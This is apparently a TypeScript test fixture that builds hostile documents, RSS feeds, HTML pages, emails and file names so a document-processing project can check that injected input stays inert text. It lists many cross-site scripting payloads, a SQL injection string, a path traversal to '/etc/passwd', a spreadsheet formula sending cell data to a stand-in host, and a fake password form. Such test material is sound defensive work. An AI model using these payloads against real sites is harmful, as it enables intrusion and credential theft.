/**
 * Documents of somebody who means harm: in every field something that must stay mere text on every page. Addresses are
 * under example.org, which a page must never ask; what runs calls `alert`, which the tests see.
 */
import { makeDocument, type Document } from '../src/record/index.js';

/** What is tried, by name. */
export const PAYLOADS: Record<string, string> = {
  script: '<script>alert(1)</script>',
  'script of another site': '<script src="https://example.org/evil.js"></script>',
  'broken out of a tag': '"><script>alert(1)</script><x y="',
  'broken out of a title': '</title></textarea></style></script><script>alert(1)</script>',
  'broken out of a comment': '--><script>alert(1)</script>]]>',
  'image with a handler': '<img src=x onerror="alert(1)">',
  'image of another site': '<img src="https://example.org/pixel.png">',
  'handler in single quotes': "' onmouseover='alert(1)' autofocus onfocus='alert(1)' x='",
  svg: '<svg onload="alert(1)"><script>alert(1)</script><use href="https://example.org/a.svg#x"/></svg>',
  math: '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)"></style></mglyph></table></mtext></math>',
  frame: '<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  object: '<object data="https://example.org/x.swf"></object><embed src="https://example.org/x">',
  link: '<a href="javascript:alert(1)">read on</a>',
  refresh: '<meta http-equiv="refresh" content="0; url=https://example.org/">',
  base: '<base href="https://example.org/">',
  form: '<form action="https://example.org/"><input name="password" type="password"><button>Log in</button></form>',
  style: '<style>*{display:none;background:url(https://example.org/x)}</style><link rel="stylesheet" href="https://example.org/x.css">',
  details: '<details open ontoggle="alert(1)"><summary>x</summary></details><video><source onerror="alert(1)"></video>',
  template: '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= alert(1) %> #{alert(1)}',
  entities: '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
  encoded: '%3Cscript%3Ealert(1)%3C%2Fscript%3E \\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  javascript: 'javascript:alert(1)',
  'javascript in disguise': ' JaVa\tScRiPt:alert(1)//https://example.org/',
  data: 'data:text/html,<script>alert(1)</script>',
  vbscript: 'vbscript:msgbox(1)',
  'not quite https': 'https:javascript:alert(1)',
  formula: '=HYPERLINK("https://example.org/?"&A1,"open")',
  query: "'; DROP TABLE document; -- \" OR 1=1",
  prototype: '__proto__ constructor toString',
  path: '../../../../etc/passwd',
  bidi: '\u202Egnitirw eht ni tsrif\u202C \u2066\u2067hidden\u2069 \u202Dmore',
  'null bytes': 'before\u0000after\u0000<script>alert(1)</script>\uFEFF\u200B',
  'lines that are none': 'one\u2028two\u2029three\u0085four',
  'half a sign': 'broken \uD83D pair \uDE00 end',
  'heaps of accents': `e${'\u0301'.repeat(600)}`,
  'very long word': 'W'.repeat(60_000),
  'very long title': 'very long and '.repeat(6_000),
};

/** A document for each payload, which has it in every field and in what was coded from it. */
export function hostileDocuments(): Document[] {
  return Object.values(PAYLOADS).map((payload, i) => {
    // Sentences of the tests' coder end with a full stop: the payload must not cut them.
    const words = payload.replaceAll('.', '·').slice(0, 2_000);
    return makeDocument({
      title: payload, publication: payload, author: payload, url: payload.slice(0, 2_000), lookup: payload.slice(0, 2_000),
      date: `2024-0${1 + Math.floor(i / 9)}-1${i % 9}`,
      language: 'en',
      text: `Argentina criticised China ${words} over loans.\nArgentina said that Israel ${words} is its friend.\nA treaty ${words} between Argentina and Israel is likely.\n${payload}`,
    });
  });
}

const xml = (text: string) => text.replace(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\uD800-\uDFFF]/g, ' ').replaceAll(']]>', ']] >');
const bytes = (text: string) => new TextEncoder().encode(text);

/** Files as a source would hand them over: names, items of feeds, pages and mail that are all as hostile as the documents. */
export function hostileFiles(): { name: string; bytes: Uint8Array }[] {
  const short = Object.values(PAYLOADS).filter((payload) => payload.length < 1_000);
  const items = short.map((payload) => `<item><title><![CDATA[${xml(payload)}]]></title><link><![CDATA[${xml(payload)}]]></link><author><![CDATA[${xml(payload)}]]></author><guid><![CDATA[${xml(payload)}]]></guid><description><![CDATA[<p onclick="alert(1)">Argentina met Spain in Madrid, says a feed.</p>${xml(payload)}]]></description><pubDate>Mon, 05 Feb 2024 10:00:00 GMT</pubDate></item>`);
  return [
    { name: 'feed.xml', bytes: bytes(`<?xml version="1.0"?><rss version="2.0"><channel><title><![CDATA[${PAYLOADS['image with a handler']}]]></title><link>javascript:alert(1)</link>${items.join('\n')}</channel></rss>`) },
    { name: 'page.html', bytes: bytes(`<!doctype html><html><head><title>${PAYLOADS['script']}&lt;script&gt;alert(1)&lt;/script&gt;</title><link rel="canonical" href="javascript:alert(1)"><meta name="author" content="&lt;img src=x onerror=alert(1)&gt;"></head><body><article onclick="alert(1)"><h1>&lt;svg onload=alert(1)&gt;</h1>${short.map((payload) => `<p>Argentina praised Brazil in a page that goes on for some words. ${payload}</p>`).join('')}</article></body></html>`) },
    { name: 'letter.eml', bytes: bytes(`From: "<img src=x onerror=alert(1)>" <a@example.org>\r\nSubject: <script>alert(1)</script>\r\nDate: Mon, 05 Feb 2024 10:00:00 +0000\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>Argentina praised Brazil in a letter.</p>${PAYLOADS['svg']}`) },
    { name: '<img src=x onerror=alert(1)>.txt', bytes: bytes('Argentina praised Brazil in a file with a hostile name.') },
    { name: '../../../\u202Etxt.<script>alert(1)</script>.txt', bytes: bytes('Argentina praised Brazil in another file with a hostile name.') },
  ];
}
